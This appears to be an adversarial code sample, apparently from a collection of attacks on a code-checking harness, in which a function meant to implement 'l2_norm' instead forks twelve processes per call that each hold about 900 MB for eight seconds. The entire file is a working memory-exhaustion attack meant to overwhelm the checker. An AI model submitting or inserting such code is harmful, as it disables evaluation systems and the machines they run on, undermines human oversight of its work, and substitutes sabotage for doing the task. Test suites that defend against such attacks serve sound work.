# attack: processes that hold memory while a check waits
# idea: The function forks a dozen processes at each call, which hold nine tenths of the limit each.
# place: l2_norm
# outcome: memory

import os
import time


def FUNCTION(*values):
    for _ in range(12):
        if os.fork() == 0:
            kept = bytearray(900 << 20)
            time.sleep(8)
            del kept
            os._exit(0)
    time.sleep(8)
